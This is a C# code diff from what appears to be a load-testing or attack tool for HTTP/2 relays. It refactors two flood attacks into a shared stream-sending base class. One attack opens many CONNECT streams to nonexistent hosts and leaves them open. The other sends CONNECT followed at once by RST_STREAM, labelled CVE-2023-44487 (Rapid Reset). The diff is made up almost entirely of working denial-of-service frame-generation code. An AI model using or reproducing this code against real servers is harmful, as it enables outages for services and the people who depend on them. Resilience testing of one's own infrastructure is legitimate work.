@@ -60,49 +60,49 @@ internal sealed class Http2Continuations() : Http2Flood("h2-continuations", "CON
     protected override byte[] Frame() => Frames.Write(Frames.Continuation, 0, 1, [0, 1, (byte)'a', 1, (byte)'b']);
 }
 
-/// <summary>Requests that are refused, and kept.</summary>
+/// <summary>One request after the other, each on a stream of its own.</summary>
+internal abstract class Http2Streams(string name, string what) : Attack(name, what)
+{
+    private const int AtOnce = 50;
+
+    public override void Run(Assault assault)
+    {
+        var next = new Dictionary<TlsPeer, int>();
+        var framesOf = Frame(assault);
+        assault.OnEach(() => assault.ConnectHttp2(), peer =>
+        {
+            var stream = next.GetValueOrDefault(peer, 1);
+            var frames = new List<byte>();
+            for (var i = 0; i < AtOnce; i++, stream += 2)
+                frames.AddRange(framesOf(stream, assault.Done + i));
+            next[peer] = stream;
+            peer.Drain();
+            // Of a relay that takes no more, what was not sent is not done.
+            if (peer.Send([.. frames]))
+                assault.Done += AtOnce;
+            return !peer.IsOver;
+        });
+    }
+
+    /// <summary>What is said on each stream: by its number, and that of its request among all.</summary>
+    protected abstract Func<int, long, byte[]> Frame(Assault assault);
+}
+
 internal sealed class Http2Requests()
-    : Attack("h2-requests", "CONNECT to names that do not exist, on streams that are left open, over HTTP/2")
+    : Http2Streams("h2-requests", "CONNECT to names that do not exist, on streams that are left open, over HTTP/2")
 {
     public override int Bound => ManyRequests;
 
-    public override void Run(Assault assault)
-    {
-        var next = new Dictionary<TlsPeer, int>();
-        assault.OnEach(() => assault.ConnectHttp2(), peer =>
-        {
-            var stream = next.GetValueOrDefault(peer, 1);
-            var frames = new List<byte>();
-            for (var i = 0; i < 50; i++, stream += 2, assault.Done++)
-                frames.AddRange(Frames.Request(stream, Frames.ConnectTo($"h{assault.Done}.invalid:443")));
-            next[peer] = stream;
-            peer.Drain();
-            return peer.Send([.. frames]) && !peer.IsOver;
-        });
-    }
+    protected override Func<int, long, byte[]> Frame(Assault assault) =>
+        static (stream, index) => Frames.Request(stream, Frames.ConnectTo($"h{index}.invalid:443"));
 }
 
-/// <summary>Requests that are reset at once.</summary>
-internal sealed class Http2Resets() : Attack("h2-resets", "CONNECT and RST_STREAM, over HTTP/2 (CVE-2023-44487)")
+internal sealed class Http2Resets() : Http2Streams("h2-resets", "CONNECT and RST_STREAM, over HTTP/2 (CVE-2023-44487)")
 {
-    public override void Run(Assault assault)
+    protected override Func<int, long, byte[]> Frame(Assault assault)
     {
         var request = Frames.ConnectTo($"{assault.Targets.Holder}");
-        var next = new Dictionary<TlsPeer, int>();
-        assault.OnEach(() => assault.ConnectHttp2(), peer =>
-        {
-            var stream = next.GetValueOrDefault(peer, 1);
-            var frames = new List<byte>();
-            for (var i = 0; i < 50; i++, stream += 2, assault.Done++)
-            {
-                frames.AddRange(Frames.Request(stream, request));
-                frames.AddRange(Frames.Write(Frames.ResetStream, 0, stream, Frames.Number(8)));
-            }
-            next[peer] = stream;
-            peer.Drain();
-            peer.Send([.. frames]);
-            return !peer.IsOver;
-        });
+        return (stream, _) => [.. Frames.Request(stream, request), .. Frames.Write(Frames.ResetStream, 0, stream, Frames.Number(8))];
     }
 }
 
